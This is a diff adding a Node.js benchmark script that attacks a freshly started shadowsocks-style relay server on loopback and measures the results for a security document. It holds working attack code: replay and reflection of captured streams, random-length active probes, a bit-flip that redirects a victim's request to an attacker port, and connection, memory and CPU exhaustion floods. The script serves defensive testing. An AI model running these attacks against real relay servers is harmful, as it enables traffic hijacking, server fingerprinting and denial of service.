@@ -1,0 +1,337 @@
+// The attacks of issue 13 against a relay server, measured the way
+// docs/security.md reports them. Each row starts a fresh server on loopback,
+// attacks it as someone without the key would (unless the row says "with
+// key"), prints one line of figures and stops everything it started.
+//   node --openssl-legacy-provider benchmark/security-attacks.js [--server ours|libev] [--cli PATH] [ROW...]
+// --cli runs another checkout's relay (e.g. main's) with the same attacks;
+// --server libev runs shadowsocks-libev's ss-server (and ss-tunnel where a
+// row needs a client). ROW is any of: replay reflect probes bitflip replay-flood
+// half-closed stalled zero-chunks killed. Run it inside `unshare -n`.
+import { spawn } from 'node:child_process';
+import { randomBytes } from 'node:crypto';
+import { readdirSync, readFileSync } from 'node:fs';
+import net from 'node:net';
+import { setTimeout as sleep } from 'node:timers/promises';
+import { fileURLToPath } from 'node:url';
+import { AEAD_METHODS } from '../lib/crypto/aead-methods.js';
+import { evpBytesToKey } from '../lib/crypto/evp-bytes-to-key.js';
+import { deriveSubkey } from '../lib/crypto/hkdf-subkey.js';
+import { addLittleEndian } from '../lib/crypto/nonce.js';
+import { encodeAddressHeader } from '../lib/presets/address-header.js';
+import { prepareChain } from '../lib/presets/index.js';
+
+const args = process.argv.slice(2);
+const flag = (name, fallback) => (args.includes(name) ? args.splice(args.indexOf(name), 2)[1] : fallback);
+const kind = flag('--server', 'ours');
+const cli = flag('--cli', fileURLToPath(new URL('../bin/cipherbench.js', import.meta.url)));
+const rows = args.length > 0 ? args : ['replay', 'reflect', 'probes', 'bitflip', 'replay-flood', 'half-closed', 'stalled', 'zero-chunks', 'killed'];
+const KEY = 'attack-key';
+
+const chain = (method) => [{ name: 'ss-base' }, { name: AEAD_METHODS[method] ? 'ss-aead-cipher' : 'ss-stream-cipher', params: { method } }];
+const rssMB = (pid) => Number(/VmRSS:\s+(\d+)/.exec(readFileSync(`/proc/${pid}/status`, 'utf8'))[1]) / 1024;
+const fds = (pid) => readdirSync(`/proc/${pid}/fd`).length;
+const cpuSeconds = (pid) => {
+  const fields = readFileSync(`/proc/${pid}/stat`, 'utf8').split(') ')[1].split(' ');
+  return (Number(fields[11]) + Number(fields[12])) / 100;
+};
+
+const children = [];
+function startChild(command, argv, ready) {
+  const child = spawn(command, argv, { stdio: ['ignore', 'pipe', 'pipe'] });
+  children.push(child);
+  child.output = '';
+  return new Promise((resolve, reject) => {
+    const check = (data) => {
+      child.output += data;
+      if (ready.test(child.output)) resolve(child);
+    };
+    child.stdout.on('data', check);
+    child.stderr.on('data', check);
+    child.once('exit', (code) => reject(new Error(`${command} exited with ${code}: ${child.output}`)));
+  });
+}
+const stopChildren = async () => {
+  await Promise.all(children.splice(0).map((child) => (child.exitCode === null && child.signalCode === null ? new Promise((resolve) => child.once('exit', resolve).kill('SIGKILL')) : null)));
+};
+
+const freePort = () =>
+  new Promise((resolve) => {
+    const probe = net.createServer().listen(0, '127.0.0.1', () => {
+      const { port } = probe.address();
+      probe.close(() => resolve(port));
+    });
+  });
+
+async function startServer(method) {
+  const port = await freePort();
+  const child =
+    kind === 'libev'
+      ? await startChild('ss-server', ['-s', '127.0.0.1', '-p', String(port), '-k', KEY, '-m', method], /listening at/)
+      : await startChild(process.execPath, ['--openssl-legacy-provider', cli, 'relay', 'server', '--listen', `127.0.0.1:${port}`, '--key', KEY, '--presets', JSON.stringify(chain(method))], /listening on/);
+  return { port, pid: child.pid, child };
+}
+
+async function startClient(method, serverPort, targetPort) {
+  const port = await freePort();
+  if (kind === 'libev') {
+    await startChild('ss-tunnel', ['-s', '127.0.0.1', '-p', String(serverPort), '-b', '127.0.0.1', '-l', String(port), '-L', `127.0.0.1:${targetPort}`, '-k', KEY, '-m', method], /listening at/);
+  } else {
+    await startChild(process.execPath, ['--openssl-legacy-provider', cli, 'relay', 'client', '--listen', `127.0.0.1:${port}`, '--server', `127.0.0.1:${serverPort}`, '--forward', `127.0.0.1:${targetPort}`, '--key', KEY, '--presets', JSON.stringify(chain(method))], /listening on/);
+  }
+  return port;
+}
+
+// A target that counts connections and what they sent; `echo` answers.
+async function startTarget({ echo = true, read = true } = {}) {
+  const target = { connections: 0, bytes: 0, sockets: new Set() };
+  const server = net.createServer({ allowHalfOpen: true, pauseOnConnect: !read }, (socket) => {
+    target.connections += 1;
+    target.sockets.add(socket);
+    socket.on('error', () => {});
+    socket.on('close', () => target.sockets.delete(socket));
+    if (!read) return;
+    socket.on('data', (data) => {
+      target.bytes += data.length;
+      if (echo) socket.write(data);
+    });
+  });
+  await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve));
+  target.port = server.address().port;
+  target.close = () => {
+    for (const socket of target.sockets) socket.destroy();
+    server.close();
+  };
+  return target;
+}
+
+const clientBytes = (method, target, payload = Buffer.from('GET / HTTP/1.1\r\n\r\n')) => {
+  const out = [];
+  prepareChain(chain(method), { password: KEY })('client', { target }).encoder((data) => out.push(data))(payload);
+  return Buffer.concat(out);
+};
+
+// Connects, sends, and reports how the server ended it: 'FIN', 'RST' or
+// 'open' (still open after holdMs), after how long, and what came back.
+function probe(port, bytes, { holdMs = 14_000, end = false } = {}) {
+  return new Promise((resolve) => {
+    const started = Date.now();
+    const socket = net.connect({ port, host: '127.0.0.1', allowHalfOpen: true });
+    const back = [];
+    let settled = false;
+    const done = (how) => {
+      if (settled) return;
+      settled = true;
+      clearTimeout(timer);
+      socket.destroy();
+      resolve({ how, ms: Date.now() - started, back: Buffer.concat(back) });
+    };
+    const timer = setTimeout(() => done('open'), holdMs);
+    socket.on('connect', () => (end ? socket.end(bytes) : socket.write(bytes)));
+    socket.on('data', (data) => back.push(data));
+    socket.on('end', () => done('FIN'));
+    socket.on('error', (error) => done(error.code === 'ECONNRESET' ? 'RST' : error.code));
+    socket.on('close', () => done('close'));
+  });
+}
+
+const ROWS = {
+  async replay() {
+    for (const method of ['aes-256-gcm', 'aes-256-ctr']) {
+      const target = await startTarget();
+      const server = await startServer(method);
+      const bytes = clientBytes(method, { host: '127.0.0.1', port: target.port });
+      await probe(server.port, bytes, { holdMs: 300 });
+      await sleep(2000);
+      const before = target.connections;
+      await Promise.all([1, 2, 3].map(() => probe(server.port, bytes, { holdMs: 1000 })));
+      console.log(`replay ${method}: original reached the target: ${before === 1}; replays 2 s later reaching the target: ${target.connections - before}/3`);
+      target.close();
+      await stopChildren();
+    }
+  },
+
+  async reflect() {
+    for (const method of ['aes-256-gcm', 'aes-256-ctr']) {
+      const target = await startTarget();
+      const server = await startServer(method);
+      const address = { host: '127.0.0.1', port: target.port };
+      const { back } = await probe(server.port, clientBytes(method, address, Buffer.concat([encodeAddressHeader(address), Buffer.from('x')])), { holdMs: 500 });
+      const before = target.connections;
+      const result = await probe(server.port, back, { holdMs: 1000 });
+      console.log(`reflect ${method}: the server's own ${back.length} downstream bytes sent back as a client stream: ${target.connections - before} target connection(s), server ${result.how} after ${result.ms} ms`);
+      target.close();
+      await stopChildren();
+    }
+  },
+
+  async probes() {
+    const lengths = [1, 16, 17, 33, 34, 41, 42, 49, 50, 51, 100, 1000, 2000, 200_000];
+    for (const method of ['aes-256-gcm', 'chacha20-ietf-poly1305', 'aes-128-gcm', 'aes-256-ctr']) {
+      const server = await startServer(method);
+      const results = await Promise.all(lengths.map((length) => probe(server.port, Buffer.alloc(length, 0x5a).map(() => Math.floor(Math.random() * 256)))));
+      console.log(`probes ${method}: ${results.map((r, i) => `${lengths[i]} B ${r.how}${r.how === 'open' ? '' : ` ${(r.ms / 1000).toFixed(2)} s`}`).join(', ')}`);
+      await stopChildren();
+    }
+  },
+
+  async bitflip() {
+    for (const method of ['aes-256-ctr', 'chacha20-ietf', 'rc4-md5']) {
+      const victim = await startTarget();
+      const attacker = await startTarget({ echo: false });
+      const server = await startServer(method);
+      const request = Buffer.from('GET /secret HTTP/1.1\r\nHost: bank\r\nCookie: session=0123456789abcdef\r\n\r\n');
+      const captured = clientBytes(method, { host: '127.0.0.1', port: victim.port }, request);
+      await probe(server.port, captured, { holdMs: 300 });
+      // IPv4 header: ATYP, 4 address bytes, then the port, right after the IV.
+      const ivLength = captured.length - 7 - request.length;
+      const flipped = Buffer.from(captured);
+      const portXor = victim.port ^ attacker.port;
+      flipped[ivLength + 5] ^= portXor >> 8;
+      flipped[ivLength + 6] ^= portXor & 0xff;
+      await probe(server.port, flipped, { holdMs: 1000 });
+      console.log(`bitflip ${method}: the attacker's port got ${attacker.connections} connection(s) and ${attacker.bytes}/${request.length} bytes of the victim's request`);
+      victim.close();
+      attacker.close();
+      await stopChildren();
+    }
+  },
+
+  async 'replay-flood'() {
+    const method = 'aes-256-gcm';
+    const target = await startTarget();
+    const server = await startServer(method);
+    const bytes = clientBytes(method, { host: '127.0.0.1', port: target.port });
+    await probe(server.port, bytes, { holdMs: 300 });
+    const rss = rssMB(server.pid);
+    const held = [];
+    for (let i = 0; i < 2000; i++) {
+      const socket = net.connect({ port: server.port, host: '127.0.0.1' }, () => socket.write(bytes));
+      socket.on('error', () => {});
+      socket.on('data', () => {});
+      held.push(socket);
+      if (i % 100 === 99) await sleep(20);
+    }
+    await sleep(12_000);
+    console.log(`replay-flood: 2,000 replays of one captured connection held open, 12 s later: server fds ${fds(server.pid)}, target connections open ${target.sockets.size}, server RSS ${rss.toFixed(1)} -> ${rssMB(server.pid).toFixed(1)} MB`);
+    for (const socket of held) socket.destroy();
+    target.close();
+    await stopChildren();
+  },
+
+  async 'half-closed'() {
+    const method = 'aes-256-gcm';
+    const target = await startTarget({ read: false });
+    const server = await startServer(method);
+    const idle = fds(server.pid);
+    const clients = [];
+    for (let i = 0; i < 200; i++) {
+      const bytes = clientBytes(method, { host: '127.0.0.1', port: target.port });
+      const socket = net.connect({ port: server.port, host: '127.0.0.1', allowHalfOpen: true }, () => socket.end(bytes));
+      socket.on('error', () => {});
+      clients.push(socket);
+    }
+    await sleep(2000);
+    const during = fds(server.pid) - idle;
+    for (const socket of clients) socket.resetAndDestroy();
+    await sleep(2000);
+    const after2 = fds(server.pid) - idle;
+    await sleep(3000);
+    console.log(`half-closed: 200 connections (with key) send a header then FIN to a silent target, then reset: server sockets held ${during} before the resets, ${after2} 2 s after, ${fds(server.pid) - idle} 5 s after`);
+    target.close();
+    await stopChildren();
+  },
+
+  async stalled() {
+    const method = 'aes-256-gcm';
+    const target = await startTarget({ read: false });
+    const server = await startServer(method);
+    const before = rssMB(server.pid);
+    const chunk = Buffer.alloc(256 * 1024);
+    // Each flow sends sealed bytes until its socket has not drained for 2 s:
+    // the server's queue, its read-ahead and the kernel's buffers are full.
+    const stall = async () => {
+      const socket = net.connect({ port: server.port, host: '127.0.0.1' });
+      socket.on('error', () => {});
+      await new Promise((resolve) => socket.once('connect', resolve));
+      const encode = prepareChain(chain(method), { password: KEY })('client', { target: { host: '127.0.0.1', port: target.port } }).encoder((data) => socket.write(data));
+      let sent = 0;
+      for (;;) {
+        encode(chunk);
+        sent += chunk.length;
+        if (!socket.writableNeedDrain) continue;
+        const drained = await Promise.race([new Promise((resolve) => socket.once('drain', () => resolve(true))), sleep(2000).then(() => false)]);
+        if (!drained) return { socket, sent };
+      }
+    };
+    const flows = [];
+    for (let i = 0; i < 400; i += 50) flows.push(...(await Promise.all(Array.from({ length: 50 }, stall))));
+    await sleep(1000);
+    const sent = flows.reduce((sum, flow) => sum + flow.sent, 0);
+    console.log(`stalled: 400 flows (with key) into a target that never reads, each sending until stalled (${(sent / 400 / 2 ** 20).toFixed(1)} MB a flow): server RSS ${before.toFixed(1)} -> ${rssMB(server.pid).toFixed(1)} MB (+${(rssMB(server.pid) - before).toFixed(1)})`);
+    for (const { socket } of flows) socket.destroy();
+    target.close();
+    await stopChildren();
+  },
+
+  async 'zero-chunks'() {
+    const method = 'aes-256-gcm';
+    const target = await startTarget();
+    const server = await startServer(method);
+    const spec = AEAD_METHODS[method];
+    // A valid request, then 300,000 sealed chunks of length 0 under the same key.
+    const salt = randomBytes(spec.saltLength);
+    const key = spec.importKey(deriveSubkey(evpBytesToKey(KEY, spec.keyLength), salt));
+    const nonce = Buffer.alloc(spec.nonceLength);
+    const seal = (plain) => {
+      const cipher = spec.seal(key, nonce);
+      addLittleEndian(nonce, 1);
+      return Buffer.concat([cipher.update(plain), cipher.final(), cipher.getAuthTag()]);
+    };
+    const header = encodeAddressHeader({ host: '127.0.0.1', port: target.port });
+    const parts = [salt, seal(Buffer.from([0, header.length])), seal(header)];
+    for (let i = 0; i < 300_000; i++) {
+      parts.push(seal(Buffer.from([0, 0])), seal(Buffer.alloc(0)));
+    }
+    const cpu = cpuSeconds(server.pid);
+    const result = await probe(server.port, Buffer.concat(parts), { holdMs: 15_000 });
+    await sleep(200);
+    console.log(`zero-chunks: a request then 300,000 zero-length chunks: server ${result.how} after ${result.ms} ms, ${(cpuSeconds(server.pid) - cpu).toFixed(2)} s CPU`);
+    target.close();
+    await stopChildren();
+  },
+
+  async killed() {
+    const method = 'aes-256-gcm';
+    let ended = 0;
+    let reset = 0;
+    for (let run = 0; run < 5; run++) {
+      const source = net.createServer((socket) => {
+        socket.on('error', () => {});
+        const chunk = Buffer.alloc(64 * 1024, 1);
+        const pump = () => {
+          while (socket.write(chunk));
+        };
+        socket.on('drain', pump);
+        pump();
+      });
+      await new Promise((resolve) => source.listen(0, '127.0.0.1', resolve));
+      const server = await startServer(method);
+      const clientPort = await startClient(method, server.port, source.address().port);
+      const outcome = probe(clientPort, Buffer.from('GET'), { holdMs: 10_000 });
+      await sleep(500);
+      server.child.kill('SIGKILL');
+      const { how } = await outcome;
+      if (how === 'FIN') ended += 1;
+      if (how === 'RST') reset += 1;
+      source.close();
+      await stopChildren();
+    }
+    console.log(`killed: relay server killed mid-download, 5 runs: the application saw a clean FIN ${ended} times, a reset ${reset} times`);
+  },
+};
+
+try {
+  for (const row of rows) await ROWS[row]();
+} finally {
+  await stopChildren();
+}
